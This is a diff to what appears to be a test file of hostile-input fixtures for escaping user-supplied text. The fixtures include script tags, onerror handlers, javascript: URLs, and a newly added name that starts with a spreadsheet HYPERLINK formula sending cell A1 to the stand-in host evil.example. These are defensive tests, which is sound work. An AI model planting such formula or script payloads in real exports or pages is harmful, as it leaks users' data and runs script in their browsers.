@@ -25,7 +25,10 @@ HOSTILE_TEXT = (
     'Wonderful news, truly great! <script>window.__ran = 1</script><img src="x" '
     'onerror="window.__ran = 2"> [click](javascript:alert(1)) | *bold* </blockquote>'
 )
-HOSTILE_NAME = '<img src=x onerror="window.__ran = 3">Mallory</b>'
+# Starts as a spreadsheet formula would: a CSV cell must not run it.
+HOSTILE_NAME = (
+    '=HYPERLINK("https://evil.example/?"&A1,"Mallory")<img src=x onerror="window.__ran = 3"></b>'
+)
 HOSTILE_HANDLE = 'mallory"><script>window.__ran = 4</script>'
 HOSTILE_URL = "javascript:alert(document.domain)"
 _BURST_TEXTS = (
